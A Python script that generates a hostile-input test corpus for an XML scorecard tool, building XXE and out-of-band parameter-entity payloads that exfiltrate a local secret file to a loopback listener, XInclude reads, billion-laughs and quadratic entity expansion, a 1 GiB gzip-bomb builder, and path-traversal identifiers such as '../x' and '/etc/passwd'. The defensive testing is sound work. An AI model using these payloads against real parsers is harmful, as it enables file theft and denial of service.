#!/usr/bin/env python3
"""Generate the hostile-input corpus into a scratch folder.

usage: gen.py OUTDIR PORT MARKER

Writes OUTDIR/cases/ (the inputs, plus the local "secret" files they try to
reach, which hold MARKER) and OUTDIR/manifest.tsv, one case per line:

    NAME <tab> KIND <tab> EXPECT <tab> FLAGS <tab> PATH <tab> EXTRA-ARGS

KIND is the role the input plays: "scorecard" or "assessment" (checked
against base-scorecard.xml). EXPECT is "reject" (exit 1 or 2) or "accept"
(exit 0). FLAGS is "-" or a comma-separated list: "heavy" (minutes under
valgrind), "validate" (not run through `score`: its results would be
hundreds of MB). EXTRA-ARGS are options for emscore, separated by spaces.
PORT is the loopback listener that no case may reach.

Big inputs are generated here at test time, never stored in the
repository; the gzip bombs are a few MB whose expanded size never touches
the disk.
"""
import gzip
import os
import random
import struct
import sys
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
NS = "urn:emscore:1"
XI = "http://www.w3.org/2001/XInclude"
XSI = "http://www.w3.org/2001/XMLSchema-instance"
MIB = 1 << 20


def base(name):
    with open(os.path.join(HERE, name), encoding="utf-8") as f:
        return f.read()


SC = base("base-scorecard.xml")
AS = base("base-self.xml")
DECL = '<?xml version="1.0" encoding="UTF-8"?>\n'


def body(doc):
    """A document without its XML declaration."""
    return doc.split("?>", 1)[1].lstrip("\n")


def with_doctype(doc, subset, root="scorecard", title_text=None):
    """doc with an internal DTD subset (and its first title's text replaced)."""
    b = body(doc)
    if title_text is not None:
        start = b.index("<title>") + len("<title>")
        end = b.index("</title>", start)
        b = b[:start] + title_text + b[end:]
    return DECL + "<!DOCTYPE %s [\n%s\n]>\n" % (root, subset) + b


def sc_title(text):
    start = SC.index("<title>") + len("<title>")
    end = SC.index("</title>", start)
    return SC[:start] + text + SC[end:]


def sc_weight(w):
    return SC.replace('<milestone id="M1" weight="1">', '<milestone id="M1" weight="%s">' % w)


def as_agency(a):
    return AS.replace('agency="AGENCY"', 'agency="%s"' % a)


def as_measure(v):
    return AS.replace('value="12.5"', 'value="%s"' % v)


def milestones_scorecard(n, extra):
    """A scorecard with n milestones (M1, M2 and I1 of the base included,
    so the base assessment still scores against it)."""
    parts = [SC.split("<area ", 1)[0], '<area id="A" weight="1"><title>Area</title>\n',
             '<milestone id="M1"><title>t</title></milestone>\n'
             '<milestone id="M2" requires="M1"><title>t</title></milestone>\n'
             '<indicator id="I1" better="higher"><title>t</title>'
             '<threshold level="met" value="10"/></indicator>\n']
    parts.extend(extra(n))
    parts.append("</area>\n</scorecard>\n")
    return "".join(parts)


def bomb_gz(path, head, unit, total, tail):
    """gzip of head + unit repeated to total bytes + tail, in a few MB.

    Each 1 MiB chunk is deflated once after a full flush, which empties the
    compressor's history, so its compressed form is the same every time and
    is simply written again: 1 GiB never passes through zlib."""
    chunk = unit * (MIB // len(unit))
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc = zlib.crc32(head)
    with open(path, "wb") as f:
        f.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
        f.write(raw.compress(head) + raw.flush(zlib.Z_FULL_FLUSH))
        block = raw.compress(chunk) + raw.flush(zlib.Z_FULL_FLUSH)
        n = total // len(chunk)
        for _ in range(n):
            f.write(block)
            crc = zlib.crc32(chunk, crc)
        f.write(raw.compress(tail) + raw.flush())
        crc = zlib.crc32(tail, crc)
        size = len(head) + n * len(chunk) + len(tail)
        f.write(struct.pack("<II", crc, size & 0xFFFFFFFF))


class Corpus:
    def __init__(self, outdir, port, marker):
        self.dir = os.path.join(outdir, "cases")
        os.makedirs(self.dir, exist_ok=True)
        self.http = "http://127.0.0.1:%s" % port
        self.rows = []
        self.manifest = os.path.join(outdir, "manifest.tsv")
        # The files an attack tries to reach; their content must never show.
        self.put("secret.txt", marker + "\n")
        self.put("secret.xml", "<secret>%s</secret>\n" % marker)
        self.put("secret.dtd", '<!ENTITY leak "%s">\n' % marker)
        self.put("secret.xsd",
                 '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema" '
                 'targetNamespace="%s"><xs:annotation><xs:documentation>%s'
                 '</xs:documentation></xs:annotation></xs:schema>\n' % (NS, marker))
        self.secret = os.path.join(self.dir, "secret.txt")

    def put(self, name, data):
        path = os.path.join(self.dir, name)
        with open(path, "wb") as f:
            f.write(data.encode("utf-8") if isinstance(data, str) else data)
        return path

    def case(self, name, kind, data, expect="reject", args="", ext=".xml", flags="-"):
        # A tuple names an existing path instead of giving the content.
        path = data[0] if isinstance(data, tuple) else self.put(name + ext, data)
        self.rows.append("\t".join([name, kind, expect, flags, path, args]))

    def write_manifest(self):
        with open(self.manifest, "w", encoding="utf-8") as f:
            f.write("\n".join(self.rows) + "\n")


def external(c):
    h, d = c.http, c.dir
    xxe = '<!ENTITY x SYSTEM "%s">'
    c.case("xxe-file", "scorecard", with_doctype(SC, xxe % ("file://" + c.secret), title_text="&x;"))
    c.case("xxe-relative", "scorecard", with_doctype(SC, xxe % "secret.txt", title_text="&x;"))
    c.case("xxe-http", "scorecard", with_doctype(SC, xxe % (h + "/xxe"), title_text="&x;"))
    c.case("xxe-public", "scorecard",
           with_doctype(SC, '<!ENTITY x PUBLIC "-//X//Y" "%s/public">' % h, title_text="&x;"))
    c.case("xxe-attribute", "scorecard",
           with_doctype(SC, xxe % "secret.txt").replace('version="1"', 'version="&x;"'))
    c.case("xxe-assessment", "assessment",
           with_doctype(AS, xxe % c.secret, root="assessment")
           .replace("<assessor>Hostile-input base assessment", "<assessor>&x;"))
    c.case("param-entity-http", "scorecard",
           with_doctype(SC, '<!ENTITY %% p SYSTEM "%s/evil.dtd"> %%p;' % h, title_text="&leak;"))
    c.case("param-entity-file", "scorecard",
           with_doctype(SC, '<!ENTITY %% p SYSTEM "%s/secret.dtd"> %%p;' % d, title_text="&leak;"))
    c.case("param-entity-oob", "scorecard",
           with_doctype(SC, '<!ENTITY %% file SYSTEM "file://%s">\n'
                        '<!ENTITY %% eval "<!ENTITY &#x25; exfil SYSTEM \'%s/?d=%%file;\'>">\n'
                        '%%eval; %%exfil;' % (c.secret, h)))
    c.case("dtd-http", "scorecard",
           DECL + '<!DOCTYPE scorecard SYSTEM "%s/ext.dtd">\n' % h + body(SC).replace(
               "<title>Hostile-input base scorecard</title>", "<title>&leak;</title>"))
    c.case("dtd-file", "scorecard",
           DECL + '<!DOCTYPE scorecard SYSTEM "file://%s/secret.dtd">\n' % d + body(SC).replace(
               "<title>Hostile-input base scorecard</title>", "<title>&leak;</title>"))
    inc = '<xi:include xmlns:xi="%s" href="%%s" parse="%%s"/>' % XI
    c.case("xinclude-text", "scorecard", sc_title(inc % ("secret.txt", "text")))
    c.case("xinclude-xml", "scorecard", SC.replace(
        "<milestone id=\"M1\"", (inc % (c.dir + "/secret.xml", "xml")) + "<milestone id=\"M1\""))
    c.case("xinclude-http", "scorecard", sc_title(
        '<xi:include xmlns:xi="%s" href="%s/inc.xml" parse="text">'
        '<xi:fallback>fallback</xi:fallback></xi:include>' % (XI, h)))
    # A document our schema refuses (an unknown attribute) naming a schema
    # that would accept it: it is still checked against emscore's schema.
    loc = '<scorecard xmlns:xsi="%s" xsi:schemaLocation="%s %%s" evil="1" ' % (XSI, NS)
    c.case("schemaloc-http", "scorecard",
           SC.replace('<scorecard ', loc % (h + "/evil.xsd"), 1))
    c.case("schemaloc-file", "scorecard",
           SC.replace('<scorecard ', loc % (c.dir + "/secret.xsd"), 1))
    c.case("schemaloc-nons-http", "assessment", AS.replace(
        '<assessment ', '<assessment xmlns:xsi="%s" xsi:noNamespaceSchemaLocation="%s/evil.xsd" '
        'evil="1" ' % (XSI, h), 1))


def expansion(c):
    lol = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    for i in range(1, 10):
        lol.append('<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1)) * 10))
    c.case("billion-laughs", "scorecard", with_doctype(SC, "\n".join(lol), title_text="&lol9;"))
    c.case("billion-laughs-attr", "scorecard",
           with_doctype(SC, "\n".join(lol)).replace('version="1"', 'version="&lol9;"'))
    big = "a" * 100000
    c.case("quadratic-blowup", "scorecard",
           with_doctype(SC, '<!ENTITY big "%s">' % big, title_text="&big;" * 10000))
    c.case("quadratic-blowup-attr", "scorecard",
           with_doctype(SC, '<!ENTITY big "%s">' % big).replace(
               'version="1"', 'version="%s"' % ("&big;" * 10000)))


def structure(c):
    area = '<area id="D%d"><title>t</title>'
    nest = "".join(area % i for i in range(300)) + "</area>" * 300
    c.case("deep-300", "scorecard", SC.replace("</scorecard>", nest + "</scorecard>"))
    c.case("deep-300-raised", "scorecard", SC.replace("</scorecard>", nest + "</scorecard>"),
           args="--max-depth 100000")
    c.case("deep-100000", "scorecard",
           SC.replace("</scorecard>", "<a>" * 100000 + "</a>" * 100000 + "</scorecard>"))
    c.case("siblings-1m", "scorecard",
           SC.replace("</area>", "<a/>" * 1000000 + "</area>"), flags="heavy")
    c.case("siblings-1m-assessment", "assessment",
           AS.replace("</assessment>", "<r/>" * 1000000 + "</assessment>"), flags="heavy")
    c.case("attribute-10mb", "scorecard", SC.replace('id="h"', 'id="%s"' % ("h" * (10 * MIB))),
           flags="heavy")
    c.case("text-20mb", "scorecard", sc_title("t" * (20 * MIB)), flags="heavy")
    c.case("text-20mb-raised", "scorecard", (os.path.join(c.dir, "text-20mb.xml"),), flags="heavy",
           args="--max-input-bytes 33554432 --max-xml-bytes 33554432")
    attrs = " ".join('a%d="%d"' % (i, i) for i in range(100000))
    c.case("attributes-100k", "scorecard", SC.replace('<area id="A"', '<area %s id="A"' % attrs))
    nsdecls = " ".join('xmlns:p%d="urn:x:%d"' % (i, i) for i in range(100000))
    c.case("namespaces-100k", "scorecard", SC.replace('<area id="A"', '<area %s id="A"' % nsdecls))
    c.case("name-60k", "scorecard", SC.replace("</area>", "<%s/></area>" % ("n" * 60000)))
    def untitled(n):
        yield from ('<milestone id="U%d"/>\n' % i for i in range(n))
    c.case("errors-100k", "scorecard", milestones_scorecard(100000, untitled), flags="heavy")
    c.case("wrong-namespace", "scorecard", SC.replace(NS, "urn:emscore:2"))
    c.case("no-namespace", "assessment", AS.replace(' xmlns="%s"' % NS, ""))
    c.case("wrong-root", "scorecard",
           SC.replace("<scorecard ", "<scorecards ").replace("</scorecard>", "</scorecards>"))


def compression(c):
    head = (DECL + body(SC).split("<title>", 1)[0] + "<title>").encode()
    tail = ("</title>" + body(SC).split("</title>", 1)[1]).encode()
    text = os.path.join(c.dir, "gzip-bomb-text.xml.gz")
    bomb_gz(text, head, b"a", 1 << 30, tail)
    c.case("gzip-bomb-text", "scorecard", (text,))
    elems = os.path.join(c.dir, "gzip-bomb-elements.xml.gz")
    bomb_gz(elems, head.replace(b"<title>", b""), b"<a/>", 1 << 30, tail.replace(b"</title>", b""))
    c.case("gzip-bomb-elements", "scorecard", (elems,))
    c.case("gzip-bomb-raised", "scorecard", (elems,), flags="heavy",
           args="--max-xml-bytes 268435456")
    with open(elems, "rb") as f:
        c.case("gzip-bomb-disguised", "assessment", f.read())
    sc_gz = gzip.compress(SC.encode(), mtime=0)
    c.case("gzip-of-gzip", "scorecard", gzip.compress(sc_gz, mtime=0), ext=".xml.gz")
    c.case("gzip-truncated", "scorecard", sc_gz[: len(sc_gz) // 2], ext=".xml.gz")
    corrupt = bytearray(sc_gz)
    for i in range(20, 40):
        corrupt[i] ^= 0x55
    c.case("gzip-corrupt", "scorecard", bytes(corrupt), ext=".xml.gz")
    c.case("gzip-trailing-garbage", "scorecard", sc_gz + b"\x00garbage", ext=".xml.gz")
    c.case("gzip-header-only", "scorecard", b"\x1f\x8b", ext=".xml.gz")
    members = gzip.compress(b"<a/>" * (MIB // 4), mtime=0)
    head_gz = gzip.compress(head.replace(b"<title>", b""), mtime=0)
    c.case("gzip-many-members", "scorecard", head_gz + members * 200, ext=".xml.gz")


def encodings(c):
    c.case("utf8-invalid", "scorecard", sc_title("caf@").encode().replace(b"@", b"\xc3\x28"))
    c.case("utf8-overlong", "scorecard", sc_title("@").encode().replace(b"@", b"\xc0\xbc"))
    xxe = with_doctype(SC, '<!ENTITY x SYSTEM "%s">' % c.secret, title_text="&x;")
    utf16 = xxe.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    c.case("utf16-bom-xxe", "scorecard", b"\xff\xfe" + utf16.encode("utf-16-le"))
    c.case("utf16-nobom-xxe", "scorecard", utf16.encode("utf-16-be"))
    lone = sc_title("x\udc00y").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    c.case("utf16-lone-surrogate", "scorecard",
           b"\xff\xfe" + lone.encode("utf-16-le", "surrogatepass"))
    whole = b"\xff\xfe" + SC.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16-le")
    c.case("utf16-truncated", "scorecard", whole[: len(whole) // 2 | 1])
    c.case("utf7-doctype", "scorecard",
           xxe.replace('encoding="UTF-8"', 'encoding="UTF-7"').replace("<!DOCTYPE", "+ADw-!DOCTYPE"))
    c.case("ebcdic-xxe", "scorecard",
           xxe.replace('encoding="UTF-8"', 'encoding="IBM037"').encode("cp037"))
    c.case("bom-mismatch", "scorecard",
           b"\xef\xbb\xbf" + SC.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode())
    c.case("nul-bytes", "scorecard", sc_title("a\0b").encode())
    c.case("charref-nul", "scorecard", sc_title("a&#0;b"))
    c.case("truncated", "scorecard", SC[: len(SC) // 2])
    c.case("empty", "scorecard", b"")
    rnd = random.Random(20140301)
    c.case("binary", "scorecard", bytes(rnd.getrandbits(8) for _ in range(65536)))


def files(c):
    d = os.path.join(c.dir, "directory.xml")
    os.makedirs(d, exist_ok=True)
    c.case("directory", "scorecard", (d,))
    fifo = os.path.join(c.dir, "fifo.xml")
    if not os.path.exists(fifo):
        os.mkfifo(fifo)
    c.case("fifo", "assessment", (fifo,))
    c.case("dev-zero", "scorecard", ("/dev/zero",))
    c.case("dev-urandom", "assessment", ("/dev/urandom",))
    link = os.path.join(c.dir, "symlink-secret.xml")
    if not os.path.lexists(link):
        os.symlink(c.secret, link)
    c.case("symlink-to-secret", "scorecard", (link,))


def identifiers(c):
    for name, ident in [("dotdot", "../x"), ("percent", "..%2Fx"), ("absolute", "/etc/passwd"),
                        ("slash", "a/b"), ("dash", "-rf"), ("dot", "."), ("empty", ""),
                        ("url", "file:///tmp/x"), ("newline", "a&#10;b"),
                        ("long", "a" * 65), ("nonascii", "\u00e9t\u00e9")]:
        c.case("agency-" + name, "assessment", as_agency(ident))
    c.case("agency-html", "assessment", as_agency("x.html"), expect="accept")
    c.case("scorecard-id-dotdot", "scorecard", SC.replace('id="h"', 'id="../h"'))
    c.case("period-slash", "assessment", AS.replace('period="2014"', 'period="2014/../x"'))


def numbers(c):
    for name, w in [("over", "1000000.001"), ("huge", "99999999999999999999"), ("negative", "-1"),
                    ("precise", "1.0001"), ("exponent", "1e3"), ("nan", "NaN"), ("inf", "INF")]:
        c.case("weight-" + name, "scorecard", sc_weight(w))
    for name, v in [("nan", "NaN"), ("inf", "INF"), ("neginf", "-INF"), ("exponent", "1e3"),
                    ("digits", "9" * 40), ("hex", "0x10")]:
        c.case("measure-" + name, "assessment", as_measure(v))
    c.case("threshold-nan", "scorecard", SC.replace('value="10"', 'value="NaN"'))
    c.case("level-value-huge", "scorecard",
           SC.replace('id="met" value="1"', 'id="met" value="99999999999999999999999"'))
    c.case("grade-min-precise", "scorecard", SC.replace('min="50"', 'min="50.001"'))


def prerequisites(c):
    c.case("prereq-self", "scorecard",
           SC.replace('<milestone id="M1" weight="1">', '<milestone id="M1" weight="1" requires="M1">'))
    c.case("prereq-cycle", "scorecard",
           SC.replace('<milestone id="M1" weight="1">', '<milestone id="M1" weight="1" requires="M2">'))
    c.case("prereq-indicator", "scorecard", SC.replace('requires="M1"', 'requires="I1"'))

    def chain(n):
        yield from ('<milestone id="C%d" requires="C%d"><title>t</title></milestone>\n'
                    % (i, (i + 1) % n) for i in range(n))
    c.case("prereq-chain-10000-cycle", "scorecard", milestones_scorecard(10000, chain))

    def fan(n):
        req = " ".join("F%d" % i for i in range(1, n))
        yield '<milestone id="F0" requires="%s"><title>t</title></milestone>\n' % req
        yield from ('<milestone id="F%d" requires="F0"><title>t</title></milestone>\n' % i
                    for i in range(1, n))
    c.case("prereq-fan-10000-cycles", "scorecard", milestones_scorecard(10000, fan))


def million(c):
    def flat(n):
        yield from ('<milestone id="X%d"><title>t</title></milestone>\n' % i for i in range(n))
    path = os.path.join(c.dir, "milestones-1m.xml.gz")
    with gzip.open(path, "wt", encoding="utf-8", compresslevel=6) as f:
        f.write(milestones_scorecard(1000000, flat))
    c.case("milestones-1m", "scorecard", (path,), flags="heavy", args="--max-xml-bytes 134217728")
    c.case("milestones-1m-raised", "scorecard", (path,), expect="accept", flags="heavy,validate",
           args="--max-xml-bytes 134217728 --max-items 2000000")


def main():
    if len(sys.argv) != 4:
        sys.exit(__doc__)
    c = Corpus(*sys.argv[1:])
    for group in (external, expansion, structure, compression, encodings, files, identifiers,
                  numbers, prerequisites, million):
        group(c)
    c.write_manifest()


if __name__ == "__main__":
    main()
